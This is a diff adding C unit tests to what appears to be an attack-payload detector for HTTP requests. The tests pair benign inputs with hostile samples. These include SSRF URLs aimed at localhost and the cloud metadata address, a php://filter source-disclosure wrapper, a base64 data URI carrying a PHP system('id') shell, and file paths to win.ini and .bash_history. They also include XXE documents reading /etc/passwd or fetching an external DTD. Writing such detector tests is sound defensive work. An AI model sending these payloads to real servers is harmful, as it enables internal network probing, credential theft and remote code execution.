@@ -292,9 +292,56 @@ static void machine_code_ends_where_the_client_waits(void **state)
 	extraction_free(e);
 }
 
+static void urls_that_no_application_hands_on_are_code(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/f?url=http%3A%2F%2F127.0.0.1%3A22"), LANGUAGE_URL, "http://127.0.0.1:22", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/f?url=http://2130706433/"), LANGUAGE_URL, "http://2130706433/", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/f?page=php://filter/convert.base64-encode/resource=index.php"), LANGUAGE_URL,
+		  "php://filter/convert.base64-encode/resource=index.php", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/f?page=data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8%2B"), LANGUAGE_PHP, "<?php system('id');?>",
+		  CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/proxy/http://169.254.169.254/latest"), LANGUAGE_URL, "http://169.254.169.254/latest", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/f?url=http://shop/page"), 0, NULL, 0, 0 },
+		{ HEAD("/f?avatar=data:image/png;base64,iVBORw0KGgo="), 0, NULL, 0, 0 },
+	};
+
+	expect_all(samples, sizeof(samples) / sizeof(samples[0]));
+}
+
+static void files_are_named_in_many_ways(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/f?page=C%3A%5CWindows%5Cwin.ini"), LANGUAGE_PATH, "C:\\Windows\\win.ini", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/f?page=/srv/.bash_history"), LANGUAGE_PATH, "/srv/.bash_history", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/f?file=C%3A%5Cfakepath%5Cphoto.jpg"), 0, NULL, 0, 0 },
+		{ HEAD("/f?next=/account/orders"), 0, NULL, 0, 0 },
+	};
+
+	expect_all(samples, sizeof(samples) / sizeof(samples[0]));
+}
+
+static void documents_that_declare_entities_are_code(void **state)
+{
+#define XML(body) "POST /x HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n" body
+#define IN_BAND "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>"
+	static const struct sample samples[] = {
+		{ XML(IN_BAND), LANGUAGE_XML, IN_BAND, CONTEXT_ALONE, SINK_RESOURCE },
+		{ XML("<!DOCTYPE r SYSTEM 'http://198.51.100.9/e'><r/>"), LANGUAGE_XML, "<!DOCTYPE r SYSTEM 'http://198.51.100.9/e'><r/>",
+		  CONTEXT_ALONE, SINK_RESOURCE },
+		{ XML("<?xml version='1.0'?><order><item>rope</item></order>"), 0, NULL, 0, 0 },
+		{ XML("<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg/>"), 0, NULL, 0, 0 },
+	};
+
+	expect_all(samples, sizeof(samples) / sizeof(samples[0]));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(urls_that_no_application_hands_on_are_code),
+		cmocka_unit_test(files_are_named_in_many_ways),
+		cmocka_unit_test(documents_that_declare_entities_are_code),
 		cmocka_unit_test(what_stands_behind_a_delimiter_is_the_code),
 		cmocka_unit_test(bytes_that_are_no_text_may_be_machine_code),
 		cmocka_unit_test(machine_code_ends_where_the_client_waits),
